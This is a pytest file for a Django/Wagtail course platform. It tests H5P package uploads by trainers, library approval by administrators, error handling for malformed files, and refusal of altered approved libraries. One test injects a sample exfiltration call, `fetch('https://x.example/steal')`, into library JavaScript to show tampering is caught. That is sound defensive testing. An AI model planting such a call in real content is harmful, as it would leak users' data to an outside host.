"""Trainers upload H5P packages in the admin; administrators approve library versions."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from courses.editorial import editorial_setup
from courses.h5p.models import H5PItem, H5PLibrary
from courses.h5p.services import storage_root
from learning.cast import REVIEWERS_GROUP, TRAINERS_GROUP
from tests.courses.h5p_mini import MINI_JS, mini_package
from tests.factories import login_verified

ADD_URL = reverse("wagtailsnippets_courses_h5pitem:add")


@pytest.fixture
def trainer(site_tree, cast_users, client):
    editorial_setup(
        catalogue=site_tree["catalogue"], trainers_group=TRAINERS_GROUP, reviewers_group=REVIEWERS_GROUP
    )
    login_verified(client, cast_users["trainer"])
    return cast_users["trainer"]


def upload(client, data: bytes, name: str = "bai-tap.h5p", title: str = ""):
    return client.post(ADD_URL, {"title": title, "package": SimpleUploadedFile(name, data)})


def stored_files() -> list:
    root = storage_root()
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


@pytest.mark.django_db
def test_a_trainer_uploads_a_package_that_waits_for_its_library_to_be_approved(trainer, client, cast_users):
    response = upload(client, mini_package(title="Nhận biết tin nhắn lừa đảo"))
    assert response.status_code == 302
    item = H5PItem.objects.get()
    assert item.title == "Nhận biết tin nhắn lừa đảo"
    assert item.main_library == "HocSo.Mini 1.0"
    assert item.uploaded_by == trainer
    library = H5PLibrary.objects.get()
    assert (library.machine_name, library.version, library.approved) == ("HocSo.Mini", "1.0.0", False)
    assert set(library.files) == {"library.json", "mini.js"}
    assert not item.playable
    assert (
        "Chờ duyệt thư viện: HocSo.Mini 1.0.0"
        in client.get(reverse("wagtailsnippets_courses_h5pitem:list")).content.decode()
    )
    # Trainers may look at libraries, never approve them.
    assert client.get(reverse("h5p_libraries")).status_code == 200
    approve_url = reverse("h5p_library_approve", args=[library.pk])
    refused = client.post(approve_url)
    assert refused.status_code == 302 and refused.url == reverse("wagtailadmin_home")
    library.refresh_from_db()
    assert not library.approved

    client.logout()
    login_verified(client, cast_users["admin"])
    page = client.get(approve_url).content.decode()
    assert library.digest in page and library.files["mini.js"] in page
    assert client.post(approve_url).status_code == 302
    library.refresh_from_db()
    assert library.approved and library.approved_by == cast_users["admin"]
    assert H5PItem.objects.get().playable


@pytest.mark.django_db
def test_a_bad_package_gets_a_clear_error_and_nothing_is_stored(trainer, client):
    response = upload(client, b"PK\x03\x04 not really a zip")
    assert response.status_code == 200
    assert "Tệp không phải gói H5P (.h5p là một tệp zip)." in response.content.decode()
    response = upload(client, mini_package(), name="bai-tap.zip")
    assert "Hãy chọn một tệp có đuôi .h5p." in response.content.decode()
    assert H5PItem.objects.count() == 0 and H5PLibrary.objects.count() == 0
    assert stored_files() == []


@pytest.mark.django_db
def test_a_changed_copy_of_an_approved_library_is_refused(trainer, client, cast_users):
    upload(client, mini_package())
    H5PLibrary.objects.update(approved_at="2026-11-01T00:00:00+07:00")
    before = stored_files()
    response = upload(
        client, mini_package(title="Gói sửa", js=MINI_JS + "fetch('https://x.example/steal');\n")
    )
    assert response.status_code == 200
    assert (
        "Thư viện HocSo.Mini 1.0.0 trong gói khác với bản đã được duyệt; gói bị từ chối."
        in response.content.decode()
    )
    assert H5PItem.objects.count() == 1 and H5PLibrary.objects.count() == 1
    assert stored_files() == before
    # A new version is a new library to approve, not a change of the approved one.
    assert upload(client, mini_package(title="Bản mới", patch=1)).status_code == 302
    assert not H5PItem.objects.get(title="Bản mới").playable


@pytest.mark.django_db
def test_replacing_the_package_of_an_item_keeps_the_item(trainer, client):
    upload(client, mini_package(title="Bài tập"))
    item = H5PItem.objects.get()
    edit_url = reverse("wagtailsnippets_courses_h5pitem:edit", args=[item.pk])
    response = client.post(
        edit_url, {"title": "Bài tập", "package": SimpleUploadedFile("b.h5p", mini_package(patch=2))}
    )
    assert response.status_code == 302
    item.refresh_from_db()
    assert [str(library) for library in item.libraries.all()] == ["HocSo.Mini 1.0.2"]
    # Changing only the title needs no new package.
    assert client.post(edit_url, {"title": "Bài tập mới"}).status_code == 302
    item.refresh_from_db()
    assert item.title == "Bài tập mới" and item.main_library == "HocSo.Mini 1.0"
